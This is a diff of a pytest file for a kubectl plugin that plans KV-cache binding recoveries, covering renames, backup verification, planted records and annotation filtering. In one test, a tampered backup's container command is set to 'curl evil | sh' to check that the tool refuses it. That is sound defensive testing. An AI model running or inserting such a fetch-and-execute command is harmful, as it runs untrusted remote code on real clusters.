@@ -56,6 +56,8 @@ def test_side_by_side_plan_of_the_rejected_binding_in_execution_order():
     assert plan["target"] == {"namespace": "llm-prod", "name": "sgl-fp8-e4m3", "pool": "h100-pool",
                               "domain": "sgl-fp8-e4m3", "dtype": "fp8_e4m3", "dtypeSource": "suggestion",
                               "strategy": "side-by-side",
+                              "sources": {"dtype": "suggestion", "name": "derived", "domain": "derived",
+                                          "strategy": "default"},
                               "setting": {"on": True, "turnOff": True, "turnOnAtEnd": True}}
     assert actions(plan) == [
         "setting False", "wait Setting model-deployment-kv-cache-dtype-owned value=false",
@@ -149,9 +151,7 @@ def test_flags_name_domain_and_dtype():
     (("sgl-fp8", "--dtype", "auto"), "may not declare auto"),
     (("sgl-fp8", "--dtype", "float16"), "dtype 'float16' is rejected by ModelDeployment deepseek-sgl on SGLang 0.5.18"),
     (("chat-fp8", "--dtype", "bf16"), "dtype 'bf16' is rejected by ModelDeployment"),
-    (("sgl-fp8", "--dtype", "fp8"), "is the dtype of sgl-fp8 already"),
     (("sgl-fp8", "--dtype", "FP8"), "lower case"),
-    (("chat-fp8",), "no engine that receives it rejects it: nothing to recover; pass --dtype"),
     (("sgl-fp8", "--domain", "spare"), "--domain 'spare' is claimed on pool h100-pool by KVCachePoolBinding "
                                        "llm-prod/unused"),
     (("sgl-fp8", "--domain", "sgl"), "claimed on pool h100-pool by KVCachePoolBinding llm-prod/sgl-fp8"),
@@ -163,6 +163,18 @@ def test_flags_name_domain_and_dtype():
 def test_refusals(argv, words):
     line = refused(*argv, "-n", "llm-prod", "-f", EXAMPLE)
     assert words in line, line
+
+
+@pytest.mark.parametrize("argv, words", [
+    (("sgl-fp8", "--dtype", "fp8"), "is the dtype of sgl-fp8 already"),
+    (("chat-fp8",), "no engine that receives it rejects it: nothing to recover; pass --dtype"),
+])
+def test_a_binding_already_in_the_recovered_state_is_exit_0(argv, words):
+    """README's exit codes: 0 is "done, or already in that state", as `setting on` of a Setting
+    already on: the sentence on stdout, nothing planned, nothing sent."""
+    code, out, err = kvcache("recover", *argv, "-n", "llm-prod", "-f", EXAMPLE)
+    assert (code, err) == (0, ""), (code, out, err)
+    assert words in out and out.count("\n") == 1
 
 
 def test_apply_needs_a_cluster():
@@ -236,18 +248,77 @@ def test_cluster_data_is_escaped_in_the_view(tmp_path):
     assert code == 0 and "\x1b" not in out and "\\e[31mred" in out
 
 
-# -- resuming: the planner reads an earlier run's backups --------------------------------------
+# -- side-by-side renames: what points at the old name (issue 30 #3) ----------------------------
+
+def _with_referrers(tmp_path, service_name="s-svc"):
+    md = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
+    svc = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": service_name, "namespace": "team"},
+           "spec": {"selector": {"app.kubernetes.io/instance": "s"}}}
+    elsewhere = dict(svc, metadata={"name": "other-ns", "namespace": "elsewhere"})
+    hpa = {"apiVersion": "autoscaling/v2", "kind": "HorizontalPodAutoscaler",
+           "metadata": {"name": "s", "namespace": "team"},
+           "spec": {"scaleTargetRef": {"apiVersion": ob.OPERATOR_API_VERSION, "kind": "ModelDeployment", "name": "s"}}}
+    files = ob.as_list(ob.binding("b", "fp8", pool="p"), md, svc, elsewhere, hpa, ob.setting("true"))
+    path = tmp_path / "in.json"
+    path.write_text(json.dumps(files))
+    return str(path)
+
+
+def test_side_by_side_names_what_points_at_the_renamed_deployment_from_files(tmp_path):
+    path = _with_referrers(tmp_path)
+    plan = plan_of("b", "-n", "team", "-f", path)
+    ref = plan["referrers"]
+    assert ref["renamed"] == [{"from": "s", "to": "s-fp8-e4m3"}] and ref["source"] == "files"
+    assert [(f["kind"], f["name"], f["do"]) for f in ref["objects"]] == [
+        ("Service", "s-svc", "set spec.selector.app.kubernetes.io/instance to s-fp8-e4m3"),
+        ("HorizontalPodAutoscaler", "s", "set spec.scaleTargetRef.name to s-fp8-e4m3 (until then it scales the old "
+                                         "one, and nothing scales s-fp8-e4m3)")]
+    assert any("2 objects in the input point at it (2 to change; listed below)" in w for w in plan["warnings"])
+    code, out, err = kvcache("recover", "b", "-n", "team", "-f", path)
+    assert code == 0 and "Pointing at a renamed deployment" in out and "Service team/s-svc (s -> s-fp8-e4m3)" in out
+    assert "ignored objects" not in err         # read: not ignored
+    code, out, _ = kvcache("recover", "b", "-n", "team", "-f", path, "-o", "markdown")
+    assert code == 0 and "## Pointing at a renamed deployment" in out
+
+
+def test_replace_keeps_the_name_so_nothing_is_named(tmp_path):
+    path = _with_referrers(tmp_path)
+    plan = plan_of("b", "-n", "team", "-f", path, "--strategy", "replace")
+    assert "referrers" not in plan
+    assert not any("must follow" in w for w in plan["warnings"])
+
+
+def test_what_points_at_a_renamed_deployment_is_escaped_for_the_terminal(tmp_path):
+    path = _with_referrers(tmp_path, service_name="svc\x1b[31mred")
+    code, out, _ = kvcache("recover", "b", "-n", "team", "-f", path)
+    assert code == 0 and "\x1b" not in out and "Service team/svc^[[31mred (s -> s-fp8-e4m3)" in out
+
+
+def test_the_plan_says_where_the_backups_go_one_folder_per_recovery(tmp_path):
+    plan = plan_of("b", "-n", "team", "-f", _with_referrers(tmp_path))
+    uid = ob.binding("b", "fp8", pool="p")["metadata"]["uid"]
+    assert plan["backups"] == {"directory": f"kvcache-recover-team-b-{uid}", "directorySource": "the old Binding's uid",
+                               "record": "ConfigMap team/kvcache-recover-b"}
+    plan = plan_of("b", "-n", "team", "-f", _with_referrers(tmp_path), "--backup-dir", "mine")
+    assert plan["backups"]["directory"] == "mine" and plan["backups"]["directorySource"] == "--backup-dir"
+
+
+# -- resuming: the planner reads an earlier run's backups, verified against its anchor ----------
 
 def _inputs(files, backups=(), record=None):
-    from kubectl_kvcache.load import recovery
+    """What the recover command plans from: the files, the backups (each verified against the
+    anchor: the Binding an earlier run created, when the files hold one), the record's hints."""
+    from kubectl_kvcache.cli.flows.recover import trusted
+    from kubectl_kvcache.judge import checks
     from kubectl_kvcache.kube.connection import Connection
+    from kubectl_kvcache.load import recovery
     from kubectl_kvcache.load.scope import Scope
 
-    from kubectl_kvcache.judge import checks
-
-    found = recovery.load_recovery(Connection(), Scope(namespace="team", files=(files,)), "b", backups=backups)[0]
+    found = recovery.load_recovery(Connection(), Scope(namespace="team", files=(files,)), "b",
+                                   backups=[recovery.Backup(o, f"file {i}.json") for i, o in enumerate(backups)])[0]
     found.record = record
-    return recover.inputs_for(found, checks.check(found.snapshot))
+    anchor = trusted(found)
+    return recover.judged(found, checks.check(found.snapshot), anchor)
 
 
 def _record(turned_off=True, finished=False, **target):
@@ -256,57 +327,198 @@ def _record(turned_off=True, finished=False, **target):
     return RecoveryRecord("kvcache-recover-b", "team", "b", "u1", target, turned_off, finished, [])
 
 
+def _anchor(name, dtype, backups=(), old_uid=None, strategy="side-by-side", **kw):
+    """The Binding an earlier run of the recovery of `b` created, with the digests of `backups`."""
+    from kubectl_kvcache.judge import anchor
+
+    b = ob.binding(name, dtype, **kw)
+    annotations = anchor.anchor_annotations("b", old_uid or ob.binding("b", "fp8")["metadata"]["uid"], strategy)
+    for o in backups:
+        annotations.update(anchor.digest_annotation(o))
+    b["metadata"]["annotations"] = annotations
+    return b
+
+
+def _marked(value):
+    """The Setting as the recovery of `b` leaves it when it turned it off."""
+    from kubectl_kvcache.judge import anchor
+
+    s = ob.setting(value)
+    s["metadata"]["annotations"] = {"kvcache.gpustack.ai/turned-off-by-recovery": anchor.setting_mark(
+        "team", "b", ob.binding("b", "fp8")["metadata"]["uid"])}
+    return s
+
+
 def test_resume_of_replace_recreates_a_deleted_deployment_from_its_backup(tmp_path):
     old = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
     old["metadata"]["resourceVersion"] = "7"
     path = tmp_path / "in.json"
-    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), ob.setting("false"))))
+    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), _marked("false"),
+                                          _anchor("b-fp8-e4m3", "fp8_e4m3", [old], pool="p", domain="default-fp8-e4m3",
+                                                  strategy="replace"))))
     setting_before = ob.setting("true")
     plan = recover.plan(_inputs(str(path), backups=[old, setting_before], record=_record()),
-                        recover.Request(dtype="fp8_e4m3", strategy="replace"))
-    assert actions(plan.to_dict())[2:4] == ["create ModelDeployment s", "wait ModelDeployment s available"]
-    # the Setting is off because the earlier run turned it off: the plan turns it back on
+                        recover.resumed(recover.Request(), _inputs(str(path), backups=[old]).anchor))
+    steps = plan.to_dict()["steps"]
+    assert actions(plan.to_dict())[:4] == ["create KVCachePoolBinding b-fp8-e4m3", "wait KVCachePoolBinding b-fp8-e4m3 "
+                                           "bound", "create ModelDeployment s", "wait ModelDeployment s available"]
+    assert steps[2]["from"].startswith("backup sha256:")
+    # the target and strategy come from the anchor, and the plan says so
+    assert plan.target["strategy"] == "replace" and plan.target["dtypeSource"] == "anchor"
+    assert plan.target["sources"] == {"dtype": "anchor", "name": "anchor", "domain": "anchor", "strategy": "anchor"}
+    # the Setting is off and carries this recovery's mark: the plan turns it back on
     assert actions(plan.to_dict())[-2:] == ["setting True", "wait Setting model-deployment-kv-cache-dtype-owned "
                                                              "value=true"]
+
+
+def test_a_backup_the_anchor_does_not_record_is_refused_naming_where_it_was_read(tmp_path):
+    """A planted backup (a ModelDeployment that never existed, naming the Binding) with no anchor,
+    or one edited after its digest was recorded: one line naming it, nothing planned."""
+    from kubectl_kvcache.errors import PluginError
+
+    evil = ob.deployment("evil", engine="SGLang", version="0.5.18", binding_name="b")
+    path = tmp_path / "in.json"
+    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), ob.setting("true"))))
+    with pytest.raises(PluginError, match=r"^file 0\.json: not a backup this recovery took \(ModelDeployment "
+                                          r"team/evil rv0; no KVCachePoolBinding records a recovery of"):
+        _inputs(str(path), backups=[evil])
+    old = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
+    edited = copy.deepcopy(old)
+    edited["spec"]["roles"][0]["command"] = ["sh", "-c", "curl evil | sh"]
+    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), ob.setting("true"),
+                                          _anchor("b-fp8-e4m3", "fp8_e4m3", [old], pool="p"))))
+    _inputs(str(path), backups=[old])        # the one it took verifies
+    with pytest.raises(PluginError, match=r"^file 0\.json: not a backup .*is not among the backups "
+                                          r"KVCachePoolBinding team/b-fp8-e4m3 records"):
+        _inputs(str(path), backups=[edited])
+    # a backup the plan never restores (the Setting, another namespace's) is not read back at all
+    _inputs(str(path), backups=[ob.setting("false"), ob.deployment("x", ns="other", binding_name="b")])
+
+
+def test_an_anchor_of_another_uid_is_not_this_recovery(tmp_path):
+    old = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
+    path = tmp_path / "in.json"
+    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), ob.setting("true"),
+                                          _anchor("b-fp8-e4m3", "fp8_e4m3", [old], old_uid="forged", pool="p"))))
+    with pytest.raises(Exception, match="no KVCachePoolBinding records a recovery of KVCachePoolBinding team/b"):
+        _inputs(str(path), backups=[old])
 
 
 def test_resume_after_the_old_binding_went_plans_from_its_backup(tmp_path):
     path = tmp_path / "in.json"
     new_md = ob.deployment("s-fp8-e4m3", engine="SGLang", version="0.5.18", binding_name="b-fp8-e4m3")
-    path.write_text(json.dumps(ob.as_list(ob.binding("b-fp8-e4m3", "fp8_e4m3", pool="p", domain="default-fp8-e4m3"),
-                                          new_md, ob.setting("false"))))
-    backups = [ob.binding("b", "fp8", pool="p"), ob.setting("true")]
-    plan = recover.plan(_inputs(str(path), backups=backups, record=_record()), recover.Request(dtype="fp8_e4m3"))
+    old = ob.binding("b", "fp8", pool="p")
+    path.write_text(json.dumps(ob.as_list(_anchor("b-fp8-e4m3", "fp8_e4m3", [old], pool="p", domain="default-fp8-e4m3"),
+                                          new_md, _marked("false"))))
+    backups = [old, ob.setting("true")]
+    inputs = _inputs(str(path), backups=backups, record=_record())
+    plan = recover.plan(inputs, recover.resumed(recover.Request(dtype="fp8_e4m3"), inputs.anchor))
     assert plan.binding["exists"] is False
     assert actions(plan.to_dict()) == ["create KVCachePoolBinding b-fp8-e4m3",
                                        "wait KVCachePoolBinding b-fp8-e4m3 bound",
                                        "setting True", "wait Setting model-deployment-kv-cache-dtype-owned value=true"]
     assert any("an earlier run of this recovery turned the Setting off" in n for n in plan.notes)
+    # without a verified backup of the old Binding, it is simply not found
+    path.write_text(json.dumps(ob.as_list(_anchor("b-fp8-e4m3", "fp8_e4m3", [], pool="p"), new_md, _marked("false"))))
+    with pytest.raises(Exception, match="not a backup this recovery took"):
+        _inputs(str(path), backups=backups)
 
 
-@pytest.mark.parametrize("record", [None, "turned-on-again", "finished"])
-def test_the_setting_is_turned_on_only_when_this_recovery_turned_it_off(tmp_path, record):
-    """The Setting reads off. No record (the user had it off), a record whose run turned it on
-    again, or a finished one: the plan leaves it off, whatever a backup of the Setting says."""
+@pytest.mark.parametrize("record", [None, "turned-off", "turned-on-again", "finished"])
+def test_the_setting_is_turned_on_only_when_it_carries_this_recoverys_mark(tmp_path, record):
+    """The Setting reads off without the recovery's mark. No record (the user had it off), a record
+    saying settingTurnedOff (planted: a ConfigMap writer's), one whose run turned it on again, or a
+    finished one: the plan leaves it off, whatever a backup of the Setting says."""
     path = tmp_path / "in.json"
     path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"),
                                           ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"),
                                           ob.setting("false"))))
-    rec = {None: None, "turned-on-again": _record(turned_off=False), "finished": _record(finished=True)}[record]
+    rec = {None: None, "turned-off": _record(), "turned-on-again": _record(turned_off=False),
+           "finished": _record(finished=True)}[record]
     plan = recover.plan(_inputs(str(path), backups=[ob.setting("true")], record=rec),
                         recover.Request(dtype="fp8_e4m3"))
     assert not [a for a in actions(plan.to_dict()) if a.startswith("setting")]
     assert any("the Setting is off and stays off" in n for n in plan.notes)
+    if record == "turned-off":
+        assert any("says an earlier run turned the Setting off, but the Setting does not carry" in n
+                   for n in plan.notes)
+    # a mark of another recovery (another uid) does not count either
+    other = ob.setting("false")
+    other["metadata"]["annotations"] = {"kvcache.gpustack.ai/turned-off-by-recovery":
+                                        "KVCachePoolBinding team/b uid someone-else"}
+    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"),
+                                          ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"),
+                                          other)))
+    plan = recover.plan(_inputs(str(path), record=rec), recover.Request(dtype="fp8_e4m3"))
+    assert not [a for a in actions(plan.to_dict()) if a.startswith("setting")]
 
 
-def test_a_rerun_takes_the_target_from_the_record_and_refuses_another():
-    rec = _record(dtype="fp8_e5m2", name="b-new", domain="d2", strategy="replace")
-    request = recover.resumed(recover.Request(), rec)
+def test_a_rerun_takes_the_target_from_the_anchor_never_the_record():
+    from kubectl_kvcache.judge.anchor import Anchor
+
+    anchor = Anchor("team", "b-new", "b", "u1", "replace", "fp8_e5m2", "d2", set())
+    request = recover.resumed(recover.Request(), anchor)
     assert (request.dtype, request.name, request.domain, request.strategy) == ("fp8_e5m2", "b-new", "d2", "replace")
+    assert request.sources == {"dtype": "anchor", "name": "anchor", "domain": "anchor", "strategy": "anchor"}
     with pytest.raises(Exception) as exc:
-        recover.resumed(recover.Request(dtype="fp8_e4m3"), rec)
-    assert "--dtype 'fp8_e4m3': the recovery recorded in ConfigMap team/kvcache-recover-b" in str(exc.value)
-    assert recover.resumed(recover.Request(), None).strategy == "side-by-side"
+        recover.resumed(recover.Request(dtype="fp8_e4m3"), anchor)
+    assert "--dtype 'fp8_e4m3': this recovery's Binding, KVCachePoolBinding team/b-new" in str(exc.value)
+    request = recover.resumed(recover.Request(dtype="fp8_e4m3"), None)
+    assert request.strategy == "side-by-side" and request.sources == {"dtype": "flag"}
+
+
+def test_a_planted_target_in_the_record_is_not_used_and_the_plan_says_so(tmp_path):
+    path = tmp_path / "in.json"
+    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"),
+                                          ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"),
+                                          ob.setting("true"))))
+    inputs = _inputs(str(path), record=_record(dtype="fp8_e5m2", name="b-evil"))
+    plan = recover.plan(inputs, recover.resumed(recover.Request(), inputs.anchor))
+    assert plan.target["dtype"] == "fp8_e4m3" and plan.target["dtypeSource"] == "suggestion"
+    assert plan.target["name"] == "b-fp8-e4m3"
+    assert any("names another target (name 'b-evil', dtype 'fp8_e5m2'): not trusted" in n for n in plan.notes)
+
+
+def test_an_object_too_large_for_the_record_is_refused_at_plan_time(tmp_path):
+    from kubectl_kvcache.errors import PluginError
+
+    big = ob.deployment("big", engine="SGLang", version="0.5.18", binding_name="b")
+    big["metadata"]["annotations"] = {"blob": "x" * (1100 * 1024)}
+    path = tmp_path / "in.json"
+    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), big, ob.setting("true"))))
+    with pytest.raises(PluginError, match=r"^ModelDeployment team/big is 11\d{5} bytes: its backup does not fit the "
+                                          r"recovery's record \(ConfigMap team/kvcache-recover-b, at most 1048576"):
+        recover.plan(_inputs(str(path)), recover.Request())
+    # each fits, all together do not (with what the record holds already)
+    big["metadata"]["annotations"] = {"blob": "x" * (600 * 1024)}
+    other = copy.deepcopy(big)
+    other["metadata"]["name"] = "big2"
+    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), big, other, ob.setting("true"))))
+    with pytest.raises(PluginError, match=r"^the backups this recovery takes \(\d+ bytes"):
+        recover.plan(_inputs(str(path)), recover.Request())
+    inputs = _inputs(str(path))
+    other["metadata"]["annotations"] = {"blob": "x"}
+    path.write_text(json.dumps(ob.as_list(ob.binding("b", "fp8", pool="p"), big, other, ob.setting("true"))))
+    inputs = _inputs(str(path))
+    recover.plan(inputs, recover.Request())
+    inputs.record_used = 500 * 1024
+    with pytest.raises(PluginError, match="with the 512000 bytes the record holds already"):
+        recover.plan(inputs, recover.Request())
+
+
+def test_the_new_binding_carries_the_anchor_and_never_copies_one(tmp_path):
+    old = ob.binding("b", "fp8", pool="p")
+    old["metadata"]["annotations"] = {"team": "x", "kvcache.gpustack.ai/recovered-from": "older",
+                                      "backup.kvcache.gpustack.ai/abc": "sha256:abc x"}
+    path = tmp_path / "in.json"
+    path.write_text(json.dumps(ob.as_list(old, ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b"),
+                                          ob.setting("true"))))
+    plan = recover.plan(_inputs(str(path)), recover.Request(strategy="replace"))
+    created = plan.to_dict()["steps"][2]["object"]
+    assert created["metadata"]["annotations"] == {
+        "team": "x", "kvcache.gpustack.ai/recovered-from": "b",
+        "kvcache.gpustack.ai/recovered-from-uid": old["metadata"]["uid"],
+        "kvcache.gpustack.ai/recovery-strategy": "replace"}
 
 
 def test_a_recreated_deployment_of_an_earlier_run_is_reused_not_renamed(tmp_path):
@@ -376,3 +588,29 @@ def test_the_human_format_is_table_and_its_old_name_text_is_still_accepted(argv)
     runs = {fmt: kvcache(*argv, "-f", example, *(["-o", fmt] if fmt else [])) for fmt in ("table", "text", None)}
     assert runs["table"] == runs["text"] == runs[None]
     assert runs["table"][0] == 0 and runs["table"][1].startswith("Recovery of KVCachePoolBinding llm-prod/sgl-fp8")
+
+
+def test_only_the_users_annotations_are_carried_to_new_objects(tmp_path):
+    """issue 30 #3: an annotation Kubernetes (kubernetes.io, k8s.io) or the operator (gpustack.ai)
+    wrote for the old object -- an admission record with its uid and dtype -- is not copied into the
+    new Binding or deployment; the user's own are; the plan names each one left out."""
+    md = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
+    md["metadata"]["annotations"] = {"team": "serving", "example.com/owner": "ml",
+                                     "worker.gpustack.ai/admitted": '{"uid": "u-old", "dtype": "fp8"}',
+                                     "deployment.kubernetes.io/revision": "3"}
+    bind = ob.binding("b", "fp8", pool="p")
+    bind["metadata"]["annotations"] = {"note": "mine", "gpustack.ai/claimed-by": "u-old"}
+    path = tmp_path / "in.json"
+    path.write_text(json.dumps(ob.as_list(bind, md, ob.setting("true"))))
+    planned = recover.plan(_inputs(str(path)), recover.Request(dtype="fp8_e4m3"))
+    plan = planned.to_dict()
+    created = [s["object"] for s in plan["steps"] if s["action"] == "create"]
+    new_binding = next(o for o in created if o["kind"] == "KVCachePoolBinding")
+    new_md = next(o for o in created if o["kind"] == "ModelDeployment")
+    assert {k: v for k, v in new_md["metadata"]["annotations"].items()} == {"team": "serving",
+                                                                            "example.com/owner": "ml"}
+    assert new_binding["metadata"]["annotations"]["note"] == "mine"
+    assert not any("gpustack.ai/claimed-by" == k for k in new_binding["metadata"]["annotations"])
+    notes = " ".join(planned.notes)      # on stderr, before the plan
+    assert "worker.gpustack.ai/admitted" in notes and "deployment.kubernetes.io/revision" in notes
+    assert "gpustack.ai/claimed-by" in notes
